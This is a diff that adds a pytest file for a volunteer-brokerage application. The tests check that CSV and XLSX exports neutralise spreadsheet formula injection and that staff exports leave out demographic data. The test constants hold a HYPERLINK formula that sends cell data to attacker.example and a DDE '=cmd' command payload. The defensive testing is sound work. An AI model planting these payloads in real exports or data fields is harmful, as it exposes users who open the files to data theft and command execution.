@@ -1,0 +1,113 @@
+"""Every spreadsheet the product hands out neutralises cells that a spreadsheet program would run as a
+formula: an organisation named ``=HYPERLINK(...)`` or hours described as ``=cmd|' /C calc'!A0`` arrive
+as plain text in the hours CSV, the report CSV and XLSX (API and pilot pages)."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import date, timedelta
+
+import pytest
+from openpyxl import load_workbook
+
+from brokerage.models import Placement, User
+from brokerage.spreadsheets import csv_writer, neutralise, neutralise_workbook
+from tests.factories import ASHFORD
+from tests.reports import dataset
+
+FORMULA_NAME = '=HYPERLINK("http://attacker.example/?d="&A1,"Click")'
+FORMULA_ACTIVITY = "=cmd|' /C calc'!A0"
+Q = "period=2025&as_of=2026-06-30"
+
+
+def _formula_cells(values) -> list[str]:
+    return [v for v in values if isinstance(v, str) and v[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "|calc", "%0A"])
+def test_the_rule_neutralises_every_formula_lead(text):
+    assert neutralise(text) == "'" + text
+    out = io.StringIO()
+    csv_writer(out).writerow([text, -2.5, "-2.5", 3, None, "plain"])
+    row = next(csv.reader(io.StringIO(out.getvalue())))
+    assert row == ["'" + text, "-2.5", "-2.5", "3", "", "plain"]
+
+
+def test_a_workbook_keeps_no_formula_from_data():
+    from openpyxl import Workbook
+
+    wb = Workbook()
+    wb.active.append([FORMULA_NAME, "@x", 5, "ok"])
+    neutralise_workbook(wb)
+    buf = io.BytesIO()
+    wb.save(buf)
+    cells = [c for row in load_workbook(buf).active.iter_rows() for c in row]
+    assert [c.value for c in cells] == ["'" + FORMULA_NAME, "'@x", 5, "ok"]
+    assert all(c.data_type != "f" for c in cells)
+
+
+def test_hours_csv_neutralises_activity_text(client, as_user, db, factory):
+    centre = factory.centre(districts=(ASHFORD,))
+    org = factory.organisation(ASHFORD, name=FORMULA_NAME)
+    role = factory.role(org)
+    vol = factory.volunteer(ASHFORD)
+    placement = Placement(volunteer_id=vol.id, role_id=role.id, organisation_id=org.id, started_on=date.today() - timedelta(30))
+    db.add(placement)
+    db.flush()
+    day = (date.today() - timedelta(days=2)).isoformat()
+    r = client.post(
+        f"/placements/{placement.id}/hours",
+        json={"worked_on": day, "hours": 2, "activity": FORMULA_ACTIVITY},
+        headers=as_user(db.get(User, vol.user_id)),
+    )
+    assert r.status_code == 201, r.text
+    r = client.get("/hours/export.csv", headers=as_user(factory.user("centre_staff", centre=centre)))
+    assert r.status_code == 200
+    rows = list(csv.reader(io.StringIO(r.text)))
+    assert any(cell == "'" + FORMULA_ACTIVITY for cell in rows[1])
+    assert not _formula_cells(cell for row in rows for cell in row)
+
+
+@pytest.fixture
+def formula_county(db, factory):
+    county = dataset.build(db, factory)
+    county.o1.name = FORMULA_NAME
+    db.flush()
+    return county
+
+
+def _report_cells(fmt: str, body: bytes) -> list:
+    if fmt == "csv":
+        return [cell for row in csv.reader(io.StringIO(body.decode("utf-8"))) for cell in row]
+    wb = load_workbook(io.BytesIO(body))
+    assert all(c.data_type != "f" for ws in wb.worksheets for row in ws.iter_rows() for c in row)
+    return [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_reports_neutralise_an_organisation_named_as_a_formula(client, as_user, factory, formula_county, fmt):
+    lead = as_user(factory.user("pilot_lead"))
+    for url in (
+        f"/reports?{Q}&dimension=organisation&format={fmt}",
+        f"/pilot/reports/export?period_kind=custom&start=2025-01&end=2025-12&dimensions=organisation&format={fmt}",
+    ):
+        r = client.get(url, headers=lead)
+        assert r.status_code == 200, (url, r.text[:300])
+        cells = _report_cells(fmt, r.content)
+        assert "'" + FORMULA_NAME in cells, url
+        assert not _formula_cells(cells), url
+
+
+def test_staff_exports_carry_no_equality_data(client, as_user, db, factory):
+    centre = factory.centre(districts=(ASHFORD,))
+    v = factory.volunteer(ASHFORD, gender="woman", ethnicity="asian")
+    me = as_user(db.get(User, v.user_id))
+    assert client.patch(f"/volunteers/{v.id}", json={"demographics": {"disability": "yes"}}, headers=me).status_code == 200
+    own = client.get(f"/volunteers/{v.id}/export", headers=me).json()
+    assert own["volunteer"]["demographics"]["ethnicity"] == "asian"
+    staff = client.get(f"/volunteers/{v.id}/export", headers=as_user(factory.user("centre_staff", centre=centre)))
+    assert staff.status_code == 200
+    assert staff.json()["volunteer"]["demographics"] is None
+    for word in ("asian", "woman", "ethnicity", "disability"):
+        assert word not in staff.text
